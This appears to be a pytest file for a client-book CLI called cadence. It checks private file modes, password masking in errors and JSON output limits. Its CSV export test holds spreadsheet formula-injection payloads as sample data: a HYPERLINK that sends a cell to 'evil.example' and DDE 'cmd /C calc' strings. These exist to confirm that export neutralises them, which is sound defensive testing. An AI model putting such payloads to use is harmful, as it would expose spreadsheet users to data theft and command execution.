"""A client book is personal data: private files, no leaked passwords, no more than asked.

- The store is created readable by its owner only (file 0600, folder 0700, and SQLite's
  -wal/-shm files with it), whatever the umask; so are backups and exports.
- A database password never appears in any output or error: `db path`, a refused login,
  an unreachable or unknown host, a bad URL option, even an internal error that quotes it.
- `--json` outputs hold what they are for: the morning list has no notes, emails or phones.
- CSV export neutralises cells a spreadsheet would run as formulas (= + - @, tab, CR).
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from test_reliability import COMMANDS, ENV, run
from typer.testing import CliRunner

from cadence_cli.cli import app
from cadence_cli.store import alchemy as store_module
from cadence_cli.store import postgres as postgres_door

PG_URL = os.environ.get("CADENCE_TEST_POSTGRES_URL")
SECRET = "Sup3r-s3cret/p@ss"
ENCODED = quote(SECRET, safe="")


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture(params=[0o022, 0o000], ids=["umask-022", "umask-000"])
def umask(request: pytest.FixtureRequest) -> Iterator[int]:
    """Even a umask that lets everyone read new files must not open up the book."""
    previous = os.umask(request.param)
    try:
        yield request.param
    finally:
        os.umask(previous)


# ---------------------------------------------------------------------------------------------
# File modes


def test_a_new_store_is_private_with_its_folder_and_log_files(tmp_path: Path, umask: int) -> None:
    db = tmp_path / "new" / "book" / "cadence.db"
    assert run(str(db), ["add", "Ada Lovelace"]).exit_code == 0
    assert mode(db.parent) == 0o700
    assert mode(db) == 0o600
    store = store_module.open_store(str(db), create=False)
    try:
        with store.transaction(write=True) as session:
            session.execute("UPDATE client SET notes = 'x'")
            logs = [Path(f"{db}-wal"), Path(f"{db}-shm")]
            assert all(log.exists() for log in logs)
            assert [mode(log) for log in logs] == [0o600, 0o600]
    finally:
        store.close()


def test_the_default_store_lives_in_the_user_data_folder_privately(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, umask: int
) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.delenv("CADENCE_DB")
    runner = CliRunner()
    assert runner.invoke(app, ["add", "Ada Lovelace"], env=ENV).exit_code == 0
    where = runner.invoke(app, ["db", "path"], env=ENV)
    book = tmp_path / "data" / "cadence" / "cadence.db"
    assert where.stdout == f"{book}\n"
    assert (mode(book.parent), mode(book)) == (0o700, 0o600)


def test_backups_and_exports_are_private(tmp_path: Path, umask: int) -> None:
    db = str(tmp_path / "book" / "cadence.db")
    assert run(db, ["add", "Ada Lovelace", "--note", "private"]).exit_code == 0
    backup = tmp_path / "copy.db"
    assert run(db, ["db", "backup", str(backup)]).exit_code == 0
    assert mode(backup) == 0o600
    if ("export",) not in COMMANDS:
        pytest.skip("`cadence export` does not exist yet")
    for fmt in ("csv", "json", "ics"):
        target = tmp_path / f"book.{fmt}"
        assert run(db, ["export", "--format", fmt, "--out", str(target)]).exit_code == 0
        assert mode(target) == 0o600, fmt


# ---------------------------------------------------------------------------------------------
# Passwords


def _url(host: str = "127.0.0.1", port: int = 5432, database: str = "cadence_test") -> str:
    return f"postgresql+psycopg://cadence:{ENCODED}@{host}:{port}/{database}"


def _never_shows_the_password(result: Any) -> str:
    everything = result.output
    for form in (SECRET, ENCODED, "s3cret", "Sup3r"):
        assert form not in everything, everything
    assert "Traceback" not in everything
    return everything


@pytest.mark.parametrize("how", ["--db", "CADENCE_DB"])
@pytest.mark.parametrize(
    ("address", "code", "says"),
    [
        (_url(port=1), 6, "cannot reach the database postgresql+psycopg://cadence:***@"),
        (_url(host="db.invalid"), 6, "cannot find the database host of postgresql+psycopg://"),
        (_url() + "?bogus_option=1", 2, 'invalid connection option "bogus_option"'),
        (f"mysql://cadence:{ENCODED}@127.0.0.1/book", 6, "mysql://cadence:***@127.0.0.1/book"),
        (f"postgresql://cadence:{ENCODED}@[::1/book", 2, "cannot read the database address"),
    ],
    ids=["unreachable", "unknown-host", "bad-option", "no-driver", "unreadable"],
)
def test_a_store_that_cannot_be_opened_never_shows_the_password(
    address: str, code: int, says: str, how: str
) -> None:
    args = ["--db", address, "due"] if how == "--db" else ["due"]
    env = {**ENV, "CADENCE_DB": address if how == "CADENCE_DB" else None}
    result = CliRunner().invoke(app, args, env=env)
    assert result.exit_code == code, result.output
    assert says in _never_shows_the_password(result)
    assert len(result.stderr.splitlines()) == 1


@pytest.mark.postgres
@pytest.mark.parametrize("command", [["due"], ["log", "Ada"], ["db", "path"], ["clients"]])
def test_a_refused_login_never_shows_the_password(command: list[str]) -> None:
    if not PG_URL:
        pytest.skip("PostgreSQL: set CADENCE_TEST_POSTGRES_URL to run (bash .ci/run does)")
    from sqlalchemy.engine import make_url

    real = make_url(PG_URL)
    address = _url(host=real.host or "127.0.0.1", port=real.port or 5432)
    result = run(address, command)
    _never_shows_the_password(result)
    if command == ["db", "path"]:
        assert result.stdout == f"{address.replace(ENCODED, '***')}\n"
    else:
        assert result.exit_code == 6
        assert "refused the login for postgresql+psycopg://cadence:***@" in result.stderr


def test_db_path_shows_the_address_without_the_password() -> None:
    result = run(_url(host="db.example.com"), ["db", "path"])
    assert result.exit_code == 0
    assert result.stdout == "postgresql+psycopg://cadence:***@db.example.com:5432/cadence_test\n"
    _never_shows_the_password(result)


def test_an_internal_error_quoting_the_address_hides_the_password(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Even a bug that puts the raw URL in an exception does not print the password: the URL
    is masked by field, and a message that quotes the password is left out, not edited."""

    def broken(target: str, **_: object) -> Any:
        raise RuntimeError(f"could not use {target} (decoded: {SECRET})")

    monkeypatch.setattr(store_module, "open_store", broken)
    # the read door tries psycopg alone first (store/postgres.py): let it defer, as it does
    # for anything doubtful, so the read reaches the broken SQLAlchemy path
    monkeypatch.setattr(postgres_door, "postgres_reader", lambda target: None)
    result = run(_url(host="db.example.com"), ["due"])
    assert result.exit_code == 1
    line = _never_shows_the_password(result).strip()
    assert line.startswith(
        "cadence: internal error: RuntimeError (its message quotes the database password)"
    )
    monkeypatch.setattr(store_module, "open_store", lambda target, **_: 1 / 0 if target else None)
    result = run(_url(host="db.example.com"), ["due"])
    assert "internal error: ZeroDivisionError: division by zero (a bug" in result.stderr


# ---------------------------------------------------------------------------------------------
# No more than asked

NOTES = ("CLIENT-NOTE-prefers mornings", "TOUCH-NOTE-talked about the divorce")
CONTACT = ("ada@example.com", "+44 20 7946 0000", "Analytical Engines")


@pytest.fixture
def private_book(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.chdir(tmp_path)
    db = str(tmp_path / "book" / "cadence.db")
    for args in (
        ["add", "Ada Lovelace", "--tier", "A", "--email", CONTACT[0], "--phone", CONTACT[1],
         "--company", CONTACT[2], "--note", NOTES[0], "--owner", "sam"],
        ["add", "Bob Marley", "--owner", "kim", "--new-owner"],
        ["log", "ada", "--on", "2026-11-01", "--note", NOTES[1]],
        ["promise", "add", "ada", "send the report", "--by", "2026-11-20"],
    ):  # fmt: skip
        # Added, and the promise made, before the days they name (the book's date checks).
        made = "2026-10-30" if args[0] == "add" else "2026-11-10" if args[0] == "promise" else None
        extra = {"CADENCE_TODAY": made} if made else {}
        assert run(db, args, **extra).exit_code == 0, args
    return db


@pytest.mark.parametrize(
    "command",
    [["due", "--json"], ["due", "--json", "--horizon", "1y"], ["tier", "list", "--json"],
     ["promise", "list", "--json", "--all"], ["report", "--json"], ["team", "--json"]],
    ids=" ".join,
)  # fmt: skip
def test_json_lists_hold_no_notes_and_no_contact_details(
    private_book: str, command: list[str]
) -> None:
    path = tuple(word for word in command if not word.startswith("-"))[:2]
    if not any(path[: len(c)] == c for c in COMMANDS):
        pytest.skip(f"`cadence {' '.join(path)}` does not exist yet")
    result = run(private_book, command)
    assert result.exit_code == 0, result.output
    json.loads(result.stdout)
    for private in (*NOTES, *CONTACT):
        assert private not in result.stdout, private


def test_the_tier_list_names_no_clients(private_book: str) -> None:
    listed = run(private_book, ["tier", "list", "--json"]).stdout
    assert "Ada" not in listed and "Bob" not in listed


def test_clients_json_holds_the_profile_but_not_the_history(private_book: str) -> None:
    listed = run(private_book, ["clients", "--json"]).stdout
    assert CONTACT[0] in listed
    assert NOTES[1] not in listed


def test_no_command_writes_to_stderr_when_it_succeeds(private_book: str) -> None:
    """Nothing is logged behind the user's back: successful commands are quiet on stderr."""
    for args in (["due"], ["clients"], ["show", "ada"], ["log", "bob"], ["report"]):
        result = run(private_book, args)
        assert result.exit_code == 0, (args, result.output)
        assert result.stderr == "", (args, result.stderr)


# ---------------------------------------------------------------------------------------------
# Spreadsheet formulas

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Ada")',
    "company": "+1+cmd|' /C calc'!A0",
    "phone": "-2+3",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tag": "=1+1",
}


def test_a_csv_export_cannot_run_formulas_and_imports_back_the_same(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if ("export",) not in COMMANDS or ("import",) not in COMMANDS:
        pytest.skip("`cadence export` and `cadence import` do not exist yet")
    monkeypatch.chdir(tmp_path)
    db = str(tmp_path / "book" / "cadence.db")
    options = [(f"--{field}", FORMULAS[field]) for field in ("company", "phone", "note", "tag")]
    added = run(db, ["add", FORMULAS["name"], *(part for pair in options for part in pair)])
    assert added.exit_code == 0, added.output
    exported = run(db, ["export", "--format", "csv"])
    assert exported.exit_code == 0, exported.output
    cells = [cell for row in csv.reader(io.StringIO(exported.stdout)) for cell in row]
    assert cells, exported.stdout
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    (tmp_path / "book.csv").write_text(exported.stdout, encoding="utf-8", newline="")
    other = str(tmp_path / "other" / "cadence.db")
    imported = run(other, ["import", "book.csv", "--format", "csv"])
    assert imported.exit_code == 0, imported.output
    back = json.loads(run(other, ["show", "#1", "--json"]).stdout)
    assert (back["name"], back["company"], back["phone"], back["notes"], back["tags"]) == (
        FORMULAS["name"], FORMULAS["company"], FORMULAS["phone"], FORMULAS["note"],
        [FORMULAS["tag"]],
    )  # fmt: skip


def test_every_command_s_help_is_reachable_without_a_store(tmp_path: Path) -> None:
    """`--help` never opens (so never creates) a store: asking for help writes no file."""
    db = tmp_path / "never" / "cadence.db"
    for path in COMMANDS:
        result = run(str(db), [*path, "--help"])
        assert result.exit_code == 0, (path, result.output)
    assert not db.parent.exists()
